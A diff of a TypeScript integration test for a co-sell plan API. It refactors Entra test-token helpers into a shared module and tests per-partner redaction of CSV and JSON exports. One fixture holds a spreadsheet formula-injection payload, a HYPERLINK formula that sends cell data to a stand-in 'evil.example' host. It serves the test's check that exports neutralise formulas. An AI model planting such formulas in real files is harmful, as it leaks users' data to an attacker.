@@ -1,35 +1,32 @@
-import http from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { demoPlan, type Plan, type PlanContent, PORTFOLIO_CSV_HEADER } from '@cosell/shared';
+import { type Plan, type PlanContent, PORTFOLIO_CSV_HEADER } from '@cosell/shared';
 import { parse } from 'csv-parse/sync';
-import { exportJWK, generateKeyPair, type JWK, SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { EntraAuthenticator } from '../../functions/src/identity/entra-authenticator';
-import { call, startTestApi, type TestApi } from '../support/api-host';
+import { call, type TestApi } from '../support/api-host';
+import {
+  callAs,
+  PARTNER_A_USER,
+  STRANGER,
+  startEntraTestApi,
+  startTestTenant,
+  type TenantUser,
+  type TestTenant,
+  twoPartnerDemoPlan,
+  type UserRequest,
+  VENDOR_USER,
+} from '../support/test-tenant';
 
 /*
  * Exports over real HTTP with Entra tokens (issue 10): the portfolio CSV (every page of the caller's list,
  * parsed back with csv-parse, formula-like cells neutralised) and the plan JSON, each redacted for the
  * caller's side — partner A (Contoso) never gets partner B's (A. Datum) economics. Also: a partner cannot
  * create a plan from a Crossbeam import. The tokens and the two-partner demo plan are those of
- * access-api.test.ts.
+ * test/support/test-tenant.ts, as in access-api.test.ts.
  */
 
-const VENDOR_TENANT = '11111111-1111-4111-8111-111111111111';
-const CONTOSO_TENANT = '22222222-2222-4222-8222-222222222222';
-const ADATUM_TENANT = '33333333-3333-4333-8333-333333333333';
-const OTHER_TENANT = '44444444-4444-4444-8444-444444444444';
-const CLIENT_ID = '55555555-5555-4555-8555-555555555555';
-const APP_ID_URI = `api://cosell.example.com/${CLIENT_ID}`;
-const KID = 'key-1';
 const PLAN_ID = 'plan-northwind';
 const FORMULA_PLAN_ID = 'plan-formulas';
 /** Plans beyond one page of the list (100), so the export must read every page. */
 const EXTRA_PLANS = 101;
-
-const VENDOR_USER = { upn: 'maya.okafor@vendor.example', tenant: VENDOR_TENANT };
-const PARTNER_A_USER = { upn: 'sofia.marino@contoso.example', tenant: CONTOSO_TENANT };
-const STRANGER = { upn: 'someone@elsewhere.example', tenant: OTHER_TENANT };
 
 const B_SECRETS = [
   'Resale through A. Datum marketplace listing',
@@ -40,55 +37,12 @@ const B_SECRETS = [
 const B_GAP = 'economics with A. Datum Cloud Services not agreed yet';
 const A_TERMS = 'Contoso delivers and bills the rollout services';
 
-let keys: Awaited<ReturnType<typeof generateKeyPair>>;
-let keyServer: http.Server;
-let authorityHost: string;
+let tenant: TestTenant;
 let api: TestApi;
 
-async function tokenFor(user: { upn: string; tenant: string }): Promise<string> {
-  const now = Math.floor(Date.now() / 1000);
-  return new SignJWT({
-    iss: `${authorityHost}/${user.tenant}/v2.0`,
-    aud: CLIENT_ID,
-    tid: user.tenant,
-    oid: `oid-${user.upn}`,
-    name: user.upn,
-    preferred_username: user.upn,
-    scp: 'access_as_user',
-    ver: '2.0',
-    iat: now - 60,
-    nbf: now - 60,
-    exp: now + 3600,
-  })
-    .setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid: KID })
-    .sign(keys.privateKey);
-}
+const as = (...request: UserRequest) => callAs(api, tenant, ...request);
 
-async function as(
-  user: { upn: string; tenant: string },
-  method: string,
-  pathname: string,
-  options: { json?: unknown; headers?: Record<string, string> } = {},
-) {
-  const authorization = `Bearer ${await tokenFor(user)}`;
-  const response = await call(api.url, method, pathname, {
-    ...options,
-    headers: { authorization, ...options.headers },
-  });
-  return {
-    ...response,
-    text: typeof response.body === 'string' ? response.body : JSON.stringify(response.body),
-  };
-}
-
-function twoPartnerPlan(): PlanContent {
-  const p = demoPlan('2026-11-27');
-  for (const partner of p.partners) {
-    if (partner.id === 'p-contoso') partner.tenantId = CONTOSO_TENANT;
-    if (partner.id === 'p-adatum') partner.tenantId = ADATUM_TENANT;
-  }
-  return p;
-}
+const twoPartnerPlan = (): PlanContent => twoPartnerDemoPlan();
 
 /** Text a spreadsheet would run as a formula, in the title, an account and a partner name. */
 const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
@@ -104,9 +58,9 @@ function formulaPlan(): PlanContent {
 }
 
 /** The first bytes of a response as sent (fetch's text() drops a byte-order mark). */
-async function firstBytes(user: { upn: string; tenant: string }, pathname: string): Promise<number[]> {
+async function firstBytes(user: TenantUser, pathname: string): Promise<number[]> {
   const response = await fetch(`${api.url}${pathname}`, {
-    headers: { authorization: `Bearer ${await tokenFor(user)}` },
+    headers: { authorization: `Bearer ${await tenant.tokenFor(user)}` },
   });
   return [...new Uint8Array(await response.arrayBuffer()).subarray(0, 3)];
 }
@@ -116,34 +70,8 @@ function csvRows(text: string): string[][] {
 }
 
 beforeAll(async () => {
-  keys = await generateKeyPair('RS256', { extractable: true });
-  const jwk: JWK = { ...(await exportJWK(keys.publicKey)), kid: KID, alg: 'RS256', use: 'sig' };
-  keyServer = http.createServer((req, res) => {
-    if (!/^\/[0-9a-f-]{36}\/discovery\/v2\.0\/keys$/.test(req.url ?? '')) {
-      res.writeHead(404).end();
-      return;
-    }
-    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [jwk] }));
-  });
-  await new Promise<void>((resolve) => keyServer.listen(0, '127.0.0.1', resolve));
-  authorityHost = `http://127.0.0.1:${(keyServer.address() as AddressInfo).port}`;
-  const tenants = [VENDOR_TENANT, CONTOSO_TENANT, ADATUM_TENANT, OTHER_TENANT];
-  api = await startTestApi({
-    env: {
-      COSELL_IDENTITY: 'entra',
-      ENTRA_CLIENT_ID: CLIENT_ID,
-      ENTRA_APP_ID_URI: APP_ID_URI,
-      ENTRA_TENANT_ID: VENDOR_TENANT,
-      ENTRA_PARTNER_TENANT_IDS: tenants.slice(1).join(','),
-    },
-    authenticator: new EntraAuthenticator({
-      clientId: CLIENT_ID,
-      audiences: [CLIENT_ID, APP_ID_URI],
-      allowedTenants: tenants,
-      authorityHost,
-      clockToleranceSeconds: 120,
-    }),
-  });
+  tenant = await startTestTenant();
+  api = await startEntraTestApi(tenant);
   const created = await as(VENDOR_USER, 'POST', '/api/plans', { json: { ...twoPartnerPlan(), id: PLAN_ID } });
   expect(created.status).toBe(201);
   const formulas = await as(VENDOR_USER, 'POST', '/api/plans', {
@@ -178,7 +106,7 @@ beforeAll(async () => {
 
 afterAll(async () => {
   await api?.close();
-  await new Promise<void>((resolve) => keyServer.close(() => resolve()));
+  await tenant?.close();
 });
 
 describe('GET /api/plans/export.csv', () => {
@@ -297,7 +225,10 @@ describe('Crossbeam import with Entra callers', () => {
     expect(preview.status).toBe(422);
     const raw = await call(api.url, 'POST', '/api/imports/crossbeam/preview', {
       raw: exportCsv,
-      headers: { 'content-type': 'text/csv', authorization: `Bearer ${await tokenFor(PARTNER_A_USER)}` },
+      headers: {
+        'content-type': 'text/csv',
+        authorization: `Bearer ${await tenant.tokenFor(PARTNER_A_USER)}`,
+      },
     });
     expect(raw.status).toBe(200);
     const accounts = (raw.body as { accounts: unknown[] }).accounts;
